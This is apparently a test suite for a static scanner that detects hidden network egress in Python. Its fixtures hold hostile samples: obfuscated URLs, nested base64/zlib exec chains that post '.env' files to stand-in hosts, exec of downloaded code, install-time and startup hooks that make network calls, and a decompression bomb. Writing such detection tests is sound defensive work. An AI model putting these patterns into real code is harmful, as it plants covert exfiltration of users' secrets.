// Covert egress (issue 13 items 1, 4, 6, 7): folding of obfuscated constants, code run from strings
// reported at the call that runs it, code that runs without being called (.pth, sitecustomize,
// setup.py, package __init__), and hostile payloads (bombs, deep nesting, huge literals) that must stay
// bounded in time and memory and are never executed. One scan per describe block.
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { constants, deflateRawSync } from 'node:zlib';
import { defaultConfig } from '../src/config/load.js';
import { toSarif } from '../src/report/sarif.js';
import { scanSources } from '../src/scan/scan.js';
import type { Finding, ScanResult } from '../src/types.js';
import { builtinRules } from './helpers/engine.js';

const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');

async function scan(files: Record<string, string>): Promise<ScanResult> {
  const config = defaultConfig();
  return scanSources(
    Object.entries(files).map(([path, text]) => ({ path, content: Buffer.from(text) })),
    { config, rules: builtinRules(config) },
  );
}

const at = (r: ScanResult, file: string, line: number): Finding[] =>
  r.findings.filter((f) => f.file === file && f.startLine === line);
const summary = (fs: Finding[]) => fs.map((f) => `${f.ruleId} ${f.destination.host ?? '-'}`).sort();

describe('folding obfuscated destinations', () => {
  const lines = [
    'import codecs, requests',
    'requests.get("".join(["https://", "join.example", "/x"]))',
    'requests.get("elpmaxe.esrever//:sptth"[::-1])',
    'HOSTS = ("a.example", "index.example")',
    'requests.get("https://" + HOSTS[1] + "/p")',
    'parts = ["https://", "unused", "parts.example"]',
    'requests.get(parts[0] + parts[2])',
    'requests.get(chr(0x68) + chr(116) + chr(115 + 1) + "ps://chr.example")',
    'requests.get("".join(chr(c ^ 1) for c in [105, 117, 117, 113, 114, 59, 46, 46, 121, 110, 115, 47, 100, 121, 96, 108, 113, 109, 100]))',
    'requests.get(bytes([104, 116, 116, 112, 115, 58, 47, 47, 98, 46, 101, 120, 97, 109, 112, 108, 101]).decode())',
    'requests.get(str(b"https://str.example", "utf-8"))',
    'requests.get("https://before.example/x".replace("before", "after"))',
    'requests.get(codecs.decode("uggcf://ebg.rknzcyr", "rot13"))',
    'requests.get(bytes.fromhex("68747470733a2f2f6865782e6578616d706c65").decode())',
    'requests.get("".join(map(chr, [104, 116, 116, 112, 115, 58, 47, 47, 109, 46, 101, 120])))',
    'requests.get("__https://slice.example__"[2:-2])',
    'requests.get({"prod": "https://dict.example", "dev": "http://localhost"}["prod"])',
    '',
  ];
  let r: ScanResult;
  beforeAll(async () => {
    r = await scan({ 'fold.py': lines.join('\n') });
  });

  it.each([
    [2, 'join.example', false],
    [3, 'reverse.example', true],
    [5, 'index.example', false],
    [7, 'parts.example', false],
    [8, 'chr.example', true],
    [9, 'xor.example', true],
    [10, 'b.example', true],
    [11, 'str.example', false],
    [12, 'after.example', false],
    [13, 'rot.example', true],
    [14, 'hex.example', true],
    [15, 'm.ex', true],
    [16, 'slice.example', false],
    [17, 'dict.example', false],
  ])('line %i folds to %s (obfuscated: %s)', (line, host, covert) => {
    const got = at(r, 'fold.py', line);
    expect(got.map((f) => f.destination.host)).toEqual([host]);
    expect(got[0]!.ruleId === 'covert.obfuscated-destination').toBe(covert);
  });
});

describe('code run from a string', () => {
  const leaf = 'import requests\nrequests.post("https://leaf.example/c", data=open(".env").read())\n';
  let chain = leaf;
  for (let i = 0; i < 3; i++) chain = `import base64\nexec(base64.b64decode("${b64(chain)}"))\n`;
  const files = {
    'app.py': [
      'import base64, zlib, requests',
      `exec(zlib.decompress(base64.b64decode("${b64(zlib9(leaf))}")))`,
      // The enclosing module's imports are in scope for the code: `requests` is requests.
      `exec("requests.get('https://outer-import.example')")`,
      chain.trim().split('\n')[1],
      'exec(base64.b64decode(requests.get("https://203.0.113.7/stage").content))',
      'exec("# egress: allow[covert.exec-decoded] hidden\\nrequests.get(\'https://suppress.example\')")',
      '',
    ].join('\n'),
  };
  let r: ScanResult;
  beforeAll(async () => {
    r = await scan(files);
  });

  it('reports the send inside decoded code at the exec line, with the decoders and the decoded line', () => {
    const [f, ...rest] = at(r, 'app.py', 2);
    expect(rest).toEqual([]);
    expect(f).toMatchObject({
      ruleId: 'covert.exec-decoded',
      category: 'covert',
      kind: 'covert',
      callee: 'requests.post',
      destination: { host: 'leaf.example' },
      payload: {
        ruleId: 'network.requests',
        line: 2,
        layers: ['b64decode', 'zlib'],
        depth: 1,
        text: 'requests.post("https://leaf.example/c", data=open(".env").read())',
      },
    });
    expect(f!.dataSources.length).toBeGreaterThan(0);
  });

  it('resolves names the code takes from the enclosing module', () => {
    expect(summary(at(r, 'app.py', 3))).toEqual(['covert.exec-decoded outer-import.example']);
  });

  it('follows code that runs code, and says how deep', () => {
    const [f] = at(r, 'app.py', 4);
    expect(f).toMatchObject({ destination: { host: 'leaf.example' }, payload: { depth: 3, line: 2 } });
    expect(f!.payload!.layers).toEqual(['b64decode', 'b64decode', 'b64decode']);
  });

  it('keeps exec of downloaded code (also through a decoder) as remote code', () => {
    expect(summary(at(r, 'app.py', 5)).filter((s) => s.startsWith('covert.'))).toEqual(['covert.exec-download -']);
  });

  it('ignores suppression comments inside the decoded code', () => {
    const [f] = at(r, 'app.py', 6);
    expect(f?.ruleId).toBe('covert.exec-decoded');
    expect(f?.suppressed).toBeUndefined();
  });

  it('shows the decoded line as a SARIF related location at the call, escaped', () => {
    const sarif = toSarif({
      findings: r.findings,
      rules: builtinRules().rules,
      skipped: [],
      notes: [],
      version: '0',
    }).log;
    const res = sarif.runs[0]!.results!.find((x) => x.locations?.[0]?.physicalLocation?.region?.startLine === 2)!;
    const rel = res.relatedLocations!.at(-1)!;
    expect(rel.physicalLocation?.region?.startLine).toBe(2);
    expect(rel.message?.text).toContain('line 2: requests.post(');
    expect(rel.message?.text).not.toContain('\n');
    expect(res.properties).toMatchObject({ payload: { ruleId: 'network.requests', layers: ['b64decode', 'zlib'] } });
  });
});

describe('code that runs without being called', () => {
  let r: ScanResult;
  beforeAll(async () => {
    r = await scan({
      'evil.pth': '/opt/lib\nimport urllib.request; urllib.request.urlopen("https://pth.example/boot")\n',
      'sitecustomize.py': 'import requests\nrequests.post("https://site.example/start")\n',
      'setup.py': [
        'import requests',
        'from setuptools import setup',
        'from setuptools.command.install import install',
        'class Post(install):',
        '    def run(self):',
        '        requests.post("https://setup.example/installed")',
        'setup(name="x", cmdclass={"install": Post})',
        '',
      ].join('\n'),
      'pkg/__init__.py': [
        'import requests',
        'requests.get("https://init.example/on-import")',
        'def later():',
        '    requests.get("https://init.example/called")',
        '',
      ].join('\n'),
      'pkg/mod.py': 'import requests\nrequests.get("https://mod.example/plain")\n',
    });
  });

  it('tags each finding with when it runs', () => {
    const got = r.findings.map((f) => `${f.file}:${f.startLine} ${f.ruleId} ${f.trigger ?? '-'}`).sort();
    expect(got).toEqual([
      'evil.pth:2 covert.startup-code startup',
      'pkg/__init__.py:2 network.requests import',
      'pkg/__init__.py:4 network.requests -',
      'pkg/mod.py:2 network.requests -',
      'setup.py:6 network.requests install',
      'sitecustomize.py:2 network.requests startup',
    ]);
  });
});

/** A zlib stream of `total` zero bytes, built from one repeated full-flush block (fast, ~1 KB per MB). */
function zlibZeros(total: number): Buffer {
  const chunk = 16 << 20;
  const block = deflateRawSync(Buffer.alloc(chunk), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const n = Math.floor(total / chunk);
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(((n * chunk) % 65521) * 65536 + 1);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array<Buffer>(n).fill(block), Buffer.from([0x03, 0x00]), adler]);
}

function zlib9(text: string): Buffer {
  const block = deflateRawSync(Buffer.from(text), { level: 9 });
  let a = 1;
  let b = 0;
  for (const c of Buffer.from(text)) {
    a = (a + c) % 65521;
    b = (b + a) % 65521;
  }
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(b * 65536 + a);
  return Buffer.concat([Buffer.from([0x78, 0xda]), block, adler]);
}

describe('hostile payloads stay bounded and are never executed', () => {
  const marker = mkdtempSync(join(tmpdir(), 'ea-exec-'));
  let r: ScanResult;
  let ms = 0;
  let rss = 0;
  let deep = 'import requests\nrequests.get("https://too-deep.example")\n';
  for (let i = 0; i < 12; i++) deep = `import base64\nexec(base64.b64decode("${b64(deep)}"))\n`;
  const files = {
    'bomb.py': `import base64, zlib\nexec(zlib.decompress(base64.b64decode("${b64(zlibZeros(1 << 30))}")))\n`,
    'layers.py': `import base64 as b\nexec(${'b.b64decode('.repeat(50)}"aW1wb3J0IHJlcXVlc3Rz"${')'.repeat(50)})\n`,
    'deep.py': deep,
    'huge.py': `exec("${'x = 1; '.repeat((5 << 20) / 7)}")\n`,
    'quine.py': "s = 's = %r\\nexec(s %% s)'\nexec(s % s)\nt = 'exec(t)'\nexec(t)\n",
    'touch.py': `exec("import os; os.system('touch ${join(marker, 'ran')} && curl https://touch.example/x')")\n`,
  };
  beforeAll(async () => {
    const before = process.memoryUsage().rss;
    const t = performance.now();
    r = await scan(files);
    ms = performance.now() - t;
    rss = process.memoryUsage().rss - before;
  });
  afterAll(() => rmSync(marker, { recursive: true, force: true }));

  const notes = (file: string) => r.notes.filter((n) => n.file === file).map((n) => n.message);

  it('finishes quickly, within bounded memory, and skips nothing', () => {
    expect(ms).toBeLessThan(10_000);
    expect(rss).toBeLessThan(512 << 20);
    expect(r.skipped).toEqual([]);
  });

  it('cuts a decompression bomb at 1 MB with a note', () => {
    expect(notes('bomb.py')).toEqual([expect.stringMatching(/^line 2: decompressed code larger than 1 MB/)]);
  });

  it('stops after 8 layers of encoding with a note', () => {
    expect(notes('layers.py')).toEqual(['line 2: code nested in more than 8 layers of encoding: not analysed']);
  });

  it('stops after 8 levels of code run from code with a note', () => {
    expect(r.findings.filter((f) => f.file === 'deep.py')).toEqual([]);
    expect(notes('deep.py')).toEqual([
      'line 2: in the code run from a string: code run from a string nested more than 8 levels deep: not analysed',
    ]);
  });

  it('does not decode a 5 MB literal, and says so', () => {
    expect(notes('huge.py')).toEqual(['line 1: string literal larger than 4 MB: not decoded']);
  });

  it('terminates on code that runs itself', () => {
    expect(r.findings.filter((f) => f.file === 'quine.py')).toEqual([]);
  });

  it('never runs the code', () => {
    expect(summary(r.findings.filter((f) => f.file === 'touch.py'))).toEqual(['covert.exec-decoded touch.example']);
    expect(existsSync(join(marker, 'ran'))).toBe(false);
  });
});
